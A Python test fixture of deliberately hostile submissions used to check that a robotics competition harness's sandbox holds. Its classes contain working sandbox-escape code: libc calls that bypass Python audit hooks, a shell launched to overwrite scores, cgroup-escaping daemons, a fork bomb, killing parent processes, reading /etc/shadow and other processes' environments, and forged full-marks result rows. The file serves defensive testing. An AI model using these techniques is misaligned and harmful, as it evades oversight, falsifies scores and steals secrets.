"""Submissions that attack the harness itself (tests/test_compete_hostile.py).

Each stands like ``stand_still`` (0 points) and at ``T_FAULT`` [s] of simulated time tries
what a hostile competitor tried on the harness of issue 25: around the audit hooks (ctypes,
sub-interpreters, ``_posixsubprocess``, pidfds, memfds, ``os.rename``/``truncate``...), at the
results, the package's source, other submissions, the harness's process, root-only files, the
network, the reply channel and the camera's shared memory, and with processes meant to outlive
their episode. ``target`` names what it aims at (paths, a port), as a competitor would learn
them from the organiser's documentation. Whatever it learns it raises in an exception, so that
it would reach the results if the sandbox let it through.
"""

import ctypes
import json
import mmap
import os
import random
import signal
import socket
import struct
import sys
import time

from pr2_drake.agents.standing import StandingAgent

T_FAULT = 0.05  # [s]
SURVIVOR = b"pr2survivor"  # the process name of what an attacker leaves behind
libc = ctypes.CDLL(None, use_errno=True)


class _Attacker(StandingAgent):
    def __init__(self, target=None):
        super().__init__()
        self.target = target or {}
        self.done = False

    def next_action(self, obs):
        if obs["time"] >= T_FAULT and not self.done:
            self.done = True
            self.attack(obs)
        return super().next_action(obs)

    def attack(self, obs):
        raise NotImplementedError


def _c_write(path: str, data: bytes, flags: int = os.O_WRONLY | os.O_APPEND) -> int:
    """open + write through libc: no audit event."""
    fd = libc.open(path.encode(), flags, 0o644)
    if fd < 0:
        return -ctypes.get_errno()
    n = libc.write(fd, data, len(data))
    libc.close(fd)
    return n


class CtypesWrite(_Attacker):
    """Appends a raise to every file it is told of, through libc (no audit event)."""

    def attack(self, obs):
        for path in self.target.get("files", []):
            _c_write(path, b"\nraise SystemExit('pwned')\n")


class RewritesReferee(_Attacker):
    """Rewrites the installed task-1 referee so that standing still earns full marks, with
    os.replace, os.link, truncate and a plain open (the audited calls that were not refused)."""

    def attack(self, obs):
        import pr2_drake.tasks as tasks

        folder = os.path.dirname(tasks.__file__)
        for name in os.listdir(folder):
            path = os.path.join(folder, name)
            if name.endswith(".py"):
                for attempt in (lambda: os.truncate(path, 0),
                                lambda: os.replace(path, path + ".bak"),
                                lambda: os.link(path, path + ".hard"),
                                lambda: os.remove(path),
                                lambda: _c_write(path, b"\n# pwned\n", os.O_WRONLY | os.O_TRUNC)):
                    try:
                        attempt()
                    except OSError:
                        pass


class UnhooksAndWrites(_Attacker):
    """Rebinds the child's list of forbidden events and its scratch folder, then writes."""

    def attack(self, obs):
        main = sys.modules["__main__"]
        for owner in (main, sys.modules.get("pr2_drake.compete.child")):
            if owner is not None and hasattr(owner, "_FORBIDDEN_EVENTS"):
                owner._FORBIDDEN_EVENTS = ("nothing",)
            child = getattr(owner, "Child", None)
            if child is not None:
                child.scratch = "/"
        for path in self.target.get("files", []):
            try:
                with open(path, "a") as f:
                    f.write("\nraise SystemExit('pwned')\n")
            except OSError:
                pass


class SubinterpreterWrite(_Attacker):
    """Writes from a sub-interpreter, where the child's audit hook is not installed."""

    def attack(self, obs):
        try:
            import _xxsubinterpreters as interpreters
        except ImportError:
            return
        code = "".join(f"\ntry:\n    open({p!r}, 'a').write('pwned')\nexcept OSError:\n    pass\n"
                       for p in self.target.get("files", []))
        interp = interpreters.create()
        try:
            interpreters.run_string(interp, code)
        finally:
            interpreters.destroy(interp)


class ForkExecSurvivor(_Attacker):
    """Starts a shell through _posixsubprocess.fork_exec (no audit event) that sleeps, then
    rewrites the results with full marks once the harness has moved on."""

    def attack(self, obs):
        import _posixsubprocess

        results = self.target.get("results", "/nonexistent")
        script = (f"sleep 3; echo '{{\"score\": 15}}' > {results}/results.json; "
                  f"sleep 600")
        args = [b"/bin/sh", b"-c", script.encode()]
        err_r, err_w = os.pipe()
        try:  # Python 3.11's signature
            _posixsubprocess.fork_exec(
                args, [b"/bin/sh"], True, (err_w,), None, None, -1, -1, -1, -1, -1, -1,
                err_r, err_w, False, True, -1, None, None, None, -1, None, False)
        except (OSError, TypeError, ValueError):
            pass


class DaemonSurvivor(_Attacker):
    """Forks through libc (no audit event), leaves its session and pids group, and lives on
    under a name of its own, meaning to outlive the harness."""

    def attack(self, obs):
        pid = libc.fork()
        if pid == 0:
            libc.setsid()
            if libc.fork() != 0:
                libc._exit(0)
            libc.prctl(15, SURVIVOR, 0, 0, 0)  # PR_SET_NAME
            for group in ("/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/cgroup.procs"):
                _c_write(group, str(os.getpid()).encode())
            time.sleep(600)
            libc._exit(0)


class ForkBombViaCtypes(_Attacker):
    """Forks through libc (no audit event) as often as it can; every child sleeps."""

    def attack(self, obs):
        for _ in range(5000):
            pid = libc.fork()
            if pid == 0:
                libc.prctl(15, SURVIVOR, 0, 0, 0)  # PR_SET_NAME
                time.sleep(600)
                libc._exit(0)
            if pid < 0:
                break


class KillsTheHarness(_Attacker):
    """Walks up its parents (the harness among them, without a PID namespace), seizes each
    with ptrace and SIGKILLs it through a pidfd (no audit event) and through libc."""

    def attack(self, obs):
        pids, pid = [], os.getpid()
        while pid > 1:
            try:
                with open(f"/proc/{pid}/status") as f:
                    pid = int(next(line for line in f if line.startswith("PPid:")).split()[1])
            except (OSError, StopIteration, ValueError):
                break
            pids.append(pid)
        for pid in [p for p in pids if p > 0]:
            try:
                fd = os.pidfd_open(pid)
                signal.pidfd_send_signal(fd, signal.SIGKILL)
                os.close(fd)
            except OSError:
                pass
            libc.ptrace(0x4206, pid, 0, 0)  # PTRACE_SEIZE
            libc.kill(pid, signal.SIGKILL)


class ReadsSecrets(_Attacker):
    """Reads root-only files, every visible process's environment and memory, and raises
    with what it found (so that it lands in the results' message)."""

    def attack(self, obs):
        loot = []
        paths = list(self.target.get("secrets", [])) + ["/etc/shadow", "/root/.bash_history"]
        for pid in (p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()):
            paths += [f"/proc/{pid}/environ", f"/proc/{pid}/cmdline"]
        for path in paths:
            try:
                with open(path, "rb") as f:
                    loot.append(f"{path}={f.read(200)!r}")
            except OSError:
                pass
        raise RuntimeError("loot: " + "; ".join(loot))


class SocketViaCtypes(_Attacker):
    """Connects to the harness's machine through libc's socket (no audit event), then
    through Python's."""

    def attack(self, obs):
        port = int(self.target.get("port", 80))
        fd = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
        if fd >= 0:
            addr = struct.pack("<HH4s8x", socket.AF_INET, socket.htons(port),
                               socket.inet_aton("127.0.0.1"))
            libc.connect(fd, addr, len(addr))
            libc.close(fd)
        with socket.create_connection(("127.0.0.1", port), timeout=1):
            pass


class FakesResultRow(_Attacker):
    """Appends a full-marks row for itself to the results log."""

    def attack(self, obs):
        row = {"submission": self.target.get("name", "fakes_row"), "task": 1, "seed": 0,
               "score": 15.0, "max_score": 15.0, "termination": "completed", "items": [],
               "sim_time": 1.0, "wall_time": 1.0}
        _c_write(os.path.join(self.target.get("results", "/nonexistent"), "episodes.jsonl"),
                 (json.dumps(row) + "\n").encode(), os.O_WRONLY | os.O_APPEND | os.O_CREAT)


class ChannelFloatOverflow(_Attacker):
    """Answers with an array reference whose offset is infinite."""

    def attack(self, obs):
        head = b'{"action": {"__f8__": [Infinity, 0]}, "compute": 0.0}'
        body = struct.pack(">I", len(head)) + head
        os.write(int(sys.argv[2]), struct.pack(">I", len(body)) + body)
        time.sleep(30)


class ChannelGarbage(_Attacker):
    """Answers with random bytes in a frame of the right length (seeded)."""

    def attack(self, obs):
        rng = random.Random(int(self.target.get("seed", 0)))
        body = bytes(rng.randrange(256) for _ in range(rng.randrange(1, 300)))
        os.write(int(sys.argv[2]), struct.pack(">I", len(body)) + body)
        time.sleep(30)


class TruncatesCamera(_Attacker):
    """Shrinks the camera's shared memory (to make the harness's next write fault), then
    scribbles over it through a writable mapping of its own."""

    def attack(self, obs):
        fd = int(sys.argv[3])
        for size in (0, 4096):
            try:
                os.ftruncate(fd, size)
            except OSError:
                pass
        try:
            m = mmap.mmap(fd, 4096)
            m[:4] = b"\xff" * 4
            m.close()
        except (OSError, ValueError):
            pass


class SharedMemoryHog(_Attacker):
    """Touches 1.5 GiB of shared anonymous memory (not counted by RLIMIT_DATA)."""

    def attack(self, obs):
        self.block = mmap.mmap(-1, 3 << 29)
        for i in range(0, len(self.block), 4096):
            self.block[i] = 1


class Segfaults(_Attacker):
    def attack(self, obs):
        ctypes.string_at(0)


class RaisesKeyboardInterrupt(_Attacker):
    def attack(self, obs):
        raise KeyboardInterrupt


class HardExit(_Attacker):
    def attack(self, obs):
        os._exit(3)


class Hangs(_Attacker):
    def attack(self, obs):
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        while True:
            time.sleep(1.0)


class Leaks(StandingAgent):
    """Keeps 50 MiB more every step."""

    def __init__(self):
        super().__init__()
        self.hoard = []

    def next_action(self, obs):
        if obs["time"] >= T_FAULT:
            block = bytearray(50 << 20)
            block[::4096] = b"\x01" * len(block[::4096])
            self.hoard.append(block)
        return super().next_action(obs)


class Slow(StandingAgent):
    """Honest but slow: 0.2 s of wall clock a step (for a user's Ctrl-C to land in)."""

    def next_action(self, obs):
        print("stepping", flush=True)
        time.sleep(0.2)
        return super().next_action(obs)


class TinyControlDt(StandingAgent):
    """Asks for an action every nanosecond (9 us of simulated time in 20 s of wall clock)."""

    control_dt = 1e-9
